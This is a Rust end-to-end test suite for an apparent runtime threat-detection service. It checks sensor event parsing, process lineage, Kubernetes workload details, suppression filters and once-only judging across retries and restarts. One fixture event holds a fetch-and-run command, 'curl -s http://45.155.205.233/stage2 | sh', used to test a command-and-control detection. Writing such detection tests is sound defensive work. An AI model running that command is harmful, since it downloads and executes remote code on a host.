//! Runtime events end to end: the sensors' real captures read without a complaint, and
//! runtime findings raised by real rule modules, with lineage and workload.

use std::path::{Path, PathBuf};

use peregrine_e2e::{scan, shipped_rules_dir, workspace_path};

fn files_under(dir: &Path, out: &mut Vec<PathBuf>) {
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        let path = entry.path();
        if path.is_dir() {
            files_under(&path, out);
        } else if path
            .extension()
            .is_some_and(|e| e == "json" || e == "jsonl")
        {
            out.push(path);
        }
    }
}

#[test]
fn every_sensor_capture_of_the_corpus_is_read_without_a_complaint() {
    let mut files = Vec::new();
    files_under(&workspace_path("tests/corpus/runtime"), &mut files);
    files.sort();
    let scanned = scan(shipped_rules_dir(), &files);
    assert_eq!(scanned.notices, Vec::<String>::new());
    let report = &scanned.report;
    assert_eq!(report.malformed, 0);
    assert_eq!(report.files_failed, 0);
    // 61 Tetragon events, 9 Falco alerts, 81 Tracee events (6 more Tracee events have no
    // activity: reads and closes): see the MANIFESTs.
    assert_eq!(report.runtime_events_read, 61 + 9 + 81);
    assert_eq!(report.events_read, report.runtime_events_read);
    // Two captures are in the corpus twice (one Tetragon exec in two docs pages, one Falco
    // alert in the docs and a blog post): each is judged once.
    assert_eq!(report.events_judged, report.runtime_events_read - 2);
    // The corpus holds one kernel module load (insmod of an out-of-tree module) and the
    // kernel's request for xfs; nothing in it is on the test lists.
    let mut types: Vec<&str> = report
        .findings
        .iter()
        .map(|f| f.finding_type.as_str())
        .collect();
    types.dedup();
    assert_eq!(types, vec!["DefenseEvasion:Runtime/KernelModuleLoaded"]);
}

#[test]
fn a_runtime_finding_carries_the_process_its_lineage_and_its_workload() {
    let dir = tempfile::tempdir().unwrap();
    // Tetragon without --enable-ancestors: each event names only its parent; the exec
    // events before it let the host give the connect its whole lineage.
    let exec = |id: &str, parent: &str, binary: &str, args: &str, time: &str| {
        serde_json::json!({"process_exec": {"process": {
            "exec_id": id, "parent_exec_id": parent, "pid": 100 + id.len(), "uid": 0,
            "binary": binary, "arguments": args, "cwd": "/app", "flags": "execve clone",
            "start_time": time,
            "pod": {"namespace": "shop", "name": "api-5c9d7-xk2lp", "uid": "9a8b7c6d-1e2f-4a3b-8c4d-5e6f7a8b9c0d",
                    "container": {"id": "containerd://2f1e0d9c8b7a69584736251403f2e1d0", "name": "api",
                                  "image": {"id": "registry.example.com/shop/api@sha256:abcd", "name": "registry.example.com/shop/api:1.4"},
                                  "pid": 7},
                    "workload": "api", "workload_kind": "Deployment"}}},
         "node_name": "gke-node-1", "time": time})
    };
    let mut connect = exec(
        "ZXhlYzM=",
        "ZXhlYzI=",
        "/usr/bin/curl",
        "-s http://45.155.205.233/stage2",
        "2026-11-30T10:00:02Z",
    );
    let process = connect["process_exec"]["process"].take();
    connect = serde_json::json!({"process_kprobe": {"process": process, "function_name": "tcp_connect",
        "policy_name": "peregrine-network",
        "args": [{"sock_arg": {"family": "AF_INET", "protocol": "IPPROTO_TCP", "saddr": "10.4.0.7",
                                "daddr": "45.155.205.233", "sport": 51000, "dport": 80}}]},
        "node_name": "gke-node-1", "time": "2026-11-30T10:00:03Z"});
    let lines = [
        exec(
            "ZXhlYzE=",
            "c2hpbQ==",
            "/app/server",
            "--port 8080",
            "2026-11-30T10:00:00Z",
        ),
        exec(
            "ZXhlYzI=",
            "ZXhlYzE=",
            "/bin/sh",
            "-c \"curl -s http://45.155.205.233/stage2 | sh\"",
            "2026-11-30T10:00:01Z",
        ),
        exec(
            "ZXhlYzM=",
            "ZXhlYzI=",
            "/usr/bin/curl",
            "-s http://45.155.205.233/stage2",
            "2026-11-30T10:00:02Z",
        ),
        connect,
    ];
    let file = dir.path().join("tetragon.log");
    let text: String = lines.iter().map(|l| format!("{l}\n")).collect();
    std::fs::write(&file, text).unwrap();

    let scanned = scan(shipped_rules_dir(), &[file]);
    assert_eq!(scanned.notices, Vec::<String>::new());
    let findings = &scanned.report.findings;
    assert_eq!(findings.len(), 1, "{findings:#?}");
    let json = serde_json::to_value(&findings[0]).unwrap();
    assert_eq!(json["type"], "Backdoor:Runtime/C&CActivity.B");
    assert_eq!(json["severity"], 8.0);
    assert_eq!(json["service"]["featureName"], "RuntimeMonitoring");
    assert_eq!(json["service"]["action"], serde_json::json!({}));
    assert!(json["service"].get("resourceRole").is_none());
    assert!(
        json["resource"]["kubernetesDetails"]
            .get("kubernetesUserDetails")
            .is_none()
    );

    let process = &json["service"]["runtimeDetails"]["process"];
    assert_eq!(process["executablePath"], "/usr/bin/curl");
    assert_eq!(process["name"], "curl");
    assert_eq!(process["namespacePid"], 7);
    assert_eq!(process["user"], "root");
    assert_eq!(
        process["commandLine"],
        "/usr/bin/curl -s http://45.155.205.233/stage2"
    );
    let lineage: Vec<&str> = process["lineage"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["executablePath"].as_str().unwrap())
        .collect();
    assert_eq!(lineage, vec!["/bin/sh", "/app/server"]);
    assert_eq!(process["parentUuid"], process["lineage"][0]["uuid"]);
    assert_eq!(
        process["lineage"][0]["parentUuid"],
        process["lineage"][1]["uuid"]
    );
    assert_eq!(
        json["service"]["runtimeDetails"]["context"],
        serde_json::json!({"addressFamily": "AF_INET", "ianaProtocolNumber": "6"})
    );
    assert_eq!(
        json["service"]["evidence"]["threatIntelligenceDetails"][0]["threatListName"],
        "Peregrine known malicious IPs"
    );

    let workload = &json["resource"]["kubernetesDetails"]["kubernetesWorkloadDetails"];
    assert_eq!(workload["name"], "api");
    assert_eq!(workload["type"], "deployments");
    assert_eq!(workload["namespace"], "shop");
    assert_eq!(workload["podName"], "api-5c9d7-xk2lp");
    assert_eq!(
        workload["containers"][0]["image"],
        "registry.example.com/shop/api:1.4"
    );
    assert_eq!(
        workload["containers"][0]["imagePrefix"],
        "registry.example.com/shop"
    );
    assert_eq!(workload["containers"][0]["containerRuntime"], "containerd");
    assert_eq!(json["resource"]["nodeDetails"]["name"], "gke-node-1");
    assert_eq!(json["resource"]["resourceType"], "EKSCluster");
    assert_eq!(
        json["service"]["eventFirstSeen"],
        "2026-11-30T10:00:03.000Z"
    );
    assert_eq!(json["service"]["additionalInfo"]["sensor"], "tetragon");
}

#[test]
fn a_resent_runtime_event_is_judged_once() {
    let dir = tempfile::tempdir().unwrap();
    let positive = std::fs::read_to_string(workspace_path(
        "rules/backdoor-runtime-c-and-c-activity-b/fixtures/positive.jsonl",
    ))
    .unwrap();
    let file = dir.path().join("twice.jsonl");
    std::fs::write(&file, format!("{positive}{positive}")).unwrap();
    let scanned = scan(shipped_rules_dir(), &[file]);
    let report = &scanned.report;
    assert_eq!(report.runtime_events_read, 8);
    assert_eq!(report.events_judged, 4);
    let counts: Vec<u64> = report.findings.iter().map(|f| f.service.count).collect();
    assert_eq!(counts.iter().sum::<u64>(), 4, "{counts:?}");
}

const PEREGRINE: &str = env!("CARGO_BIN_EXE_peregrine-under-test");

/// A Tetragon exec of `binary` in the `api` Deployment's pod, child of `parent`.
fn tetragon_exec(id: &str, parent: &str, binary: &str, second: u64) -> serde_json::Value {
    let time = format!("2026-11-30T10:{:02}:{:02}Z", second / 60 % 60, second % 60);
    serde_json::json!({"process_exec": {"process": {
        "exec_id": id, "parent_exec_id": parent, "pid": 1000 + second, "uid": 0,
        "binary": binary, "arguments": format!("--n {second}"), "cwd": "/", "flags": "execve clone",
        "start_time": time,
        "pod": {"namespace": "shop", "name": "api-5c9d7-xk2lp",
                "container": {"id": "containerd://2f1e0d9c8b7a", "name": "api",
                              "image": {"id": "registry.example.com/shop/api@sha256:abcd", "name": "registry.example.com/shop/api:1.4"}},
                "workload": "api", "workload_kind": "Deployment"}}},
     "node_name": "gke-node-1", "time": time})
}

fn serve_args(db: &str, rules: &Path, extra: &[String]) -> Vec<String> {
    let mut args = vec![
        "--database-url".to_string(),
        db.to_string(),
        "--rules".into(),
        rules.display().to_string(),
        "--intel".into(),
        workspace_path("tests/fixtures/intel").display().to_string(),
    ];
    args.extend_from_slice(extra);
    args
}

#[test]
fn runtime_lines_posted_over_http_are_judged_once_with_lineage_and_workload() {
    use peregrine_e2e::db::TestDatabase;
    use peregrine_e2e::live::Server;
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let db = runtime.block_on(TestDatabase::postgres());
    let rules = peregrine_e2e::rules_dir(true, &["runtime-echo"]);
    let server = Server::start(PEREGRINE, &serve_args(&db.url, rules.path(), &[]));
    // A suppression rule over a runtime field archives what it matches on arrival.
    let (status, created) = server.post(
        "/v1/filters",
        &serde_json::json!({"name": "server-execs", "action": "ARCHIVE", "rank": 1,
            "findingCriteria": {"criterion": {
                "type": {"equals": ["Test:Fixture/RuntimeEcho"]},
                "service.runtimeDetails.process.name": {"equals": ["server"]}}}}),
    );
    assert_eq!(status, 201, "{created}");

    let mut connect = tetragon_exec("Y3VybA==", "c2g=", "/usr/bin/curl", 3);
    let process = connect["process_exec"]["process"].take();
    connect = serde_json::json!({"process_kprobe": {"process": process, "function_name": "tcp_connect",
        "args": [{"sock_arg": {"family": "AF_INET", "protocol": "IPPROTO_TCP", "saddr": "10.4.0.7",
                                "daddr": "45.155.205.233", "sport": 51000, "dport": 443}}]},
        "node_name": "gke-node-1", "time": "2026-11-30T10:00:04Z"});
    let lines = [
        tetragon_exec("c2VydmVy", "c2hpbQ==", "/app/server", 1),
        tetragon_exec("c2g=", "c2VydmVy", "/bin/sh", 2),
        tetragon_exec("Y3VybA==", "c2g=", "/usr/bin/curl", 3),
        connect,
    ];
    // As Fluent Bit's `json_lines` posts a tailed file without a parser: each line
    // wrapped in a record; the last one as it is.
    let body: String = lines
        .iter()
        .enumerate()
        .map(|(i, line)| {
            if i < 3 {
                format!(
                    "{}\n",
                    serde_json::json!({"date": 1764496800.5, "log": line.to_string()})
                )
            } else {
                format!("{line}\n")
            }
        })
        .collect();
    let (status, receipt) = server.post_runtime(&body);
    assert_eq!(status, 200, "{receipt}\n{}", server.log());
    assert_eq!(receipt["accepted"], 4, "{receipt}");
    assert_eq!(receipt["judged"], 4, "{receipt}");
    // A retry of the same body is recognised.
    let (status, receipt) = server.post_runtime(&body);
    assert_eq!(status, 200, "{receipt}");
    assert_eq!(receipt["judged"], 0, "{receipt}");

    let echoes = server.all_findings(Some("Test:Fixture/RuntimeEcho"));
    assert_eq!(echoes.len(), 4);
    assert!(echoes.iter().all(|f| f["service"]["count"] == 1));
    let all = server.all_findings(None);
    let cc: Vec<&serde_json::Value> = all
        .iter()
        .filter(|f| f["type"] == "Backdoor:Runtime/C&CActivity.B")
        .collect();
    assert_eq!(cc.len(), 1, "{all:#?}");
    let finding = cc[0];
    let lineage: Vec<&str> = finding["service"]["runtimeDetails"]["process"]["lineage"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["executablePath"].as_str().unwrap())
        .collect();
    assert_eq!(lineage, vec!["/bin/sh", "/app/server"]);
    let workload = &finding["resource"]["kubernetesDetails"]["kubernetesWorkloadDetails"];
    assert_eq!(
        (workload["type"].as_str(), workload["name"].as_str()),
        (Some("deployments"), Some("api"))
    );
    assert_eq!(finding["resource"]["eksClusterDetails"]["name"], "test");

    // Criteria work over the runtime fields as over the audit ones.
    let (status, page) = server.get("/v1/findings?maxResults=50&type=Test:Fixture/RuntimeEcho");
    assert_eq!(status, 200);
    assert_eq!(page["findings"].as_array().unwrap().len(), 4);
    drop(server);
    runtime.block_on(db.cleanup());
}

#[test]
fn killed_while_following_a_sensor_export_it_judges_every_event_exactly_once() {
    use peregrine_e2e::db::TestDatabase;
    use peregrine_e2e::live::{Server, wait_until};
    use std::io::Write;
    use std::time::Duration;
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let db = runtime.block_on(TestDatabase::postgres());
    let store = runtime
        .block_on(peregrine::store::Store::connect(&db.url))
        .unwrap();
    let count = || runtime.block_on(store.count()).unwrap() as usize;
    let rules = tempfile::tempdir().unwrap();
    std::fs::copy(
        peregrine_e2e::fixture_rule("runtime-echo"),
        rules.path().join("runtime-echo.wasm"),
    )
    .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("tetragon.log");
    const N: u64 = 20_000;
    // Each process the child of the one before it, so lineage needs the table.
    let events: Vec<String> = (0..N)
        .map(|i| {
            tetragon_exec(
                &format!("p{i}"),
                &format!("p{}", i.saturating_sub(1)),
                "/bin/step",
                i,
            )
            .to_string()
        })
        .collect();
    let append = |range: std::ops::Range<usize>| {
        let mut file = std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(&log)
            .unwrap();
        let text: String = events[range].iter().map(|e| format!("{e}\n")).collect();
        file.write_all(text.as_bytes()).unwrap();
    };
    append(0..15_000);
    let args = serve_args(
        &db.url,
        rules.path(),
        &["--follow".to_string(), log.display().to_string()],
    );
    let server = Server::start(PEREGRINE, &args);
    wait_until("the first findings", Duration::from_secs(60), || {
        count() > 0
    });
    server.kill9();
    let at_kill = count();
    assert!(
        at_kill < 15_000,
        "killed after the file was done ({at_kill})"
    );
    append(15_000..18_000);
    let server = Server::start(PEREGRINE, &args);
    wait_until("the rest", Duration::from_secs(300), || count() >= 18_000);
    append(18_000..N as usize);
    wait_until("the appended events", Duration::from_secs(120), || {
        count() >= N as usize
    });
    let findings = server.all_findings(Some("Test:Fixture/RuntimeEcho"));
    assert_eq!(findings.len(), N as usize);
    assert!(
        findings.iter().all(|f| f["service"]["count"] == 1),
        "an event judged twice"
    );
    // Lineage crossed the restart only as far as the processes seen since it: the
    // table is in memory (the sensor's own `parent` is what survives).
    let last = findings
        .iter()
        .find(|f| {
            f["description"]
                .as_str()
                .unwrap()
                .starts_with(&format!("p{} ", N - 1))
        })
        .unwrap();
    assert!(
        last["service"]["additionalInfo"]["lineageDepth"]
            .as_str()
            .unwrap()
            .parse::<u32>()
            .unwrap()
            >= 1
    );
    drop(server);
    runtime.block_on(store.close());
    runtime.block_on(db.cleanup());
}
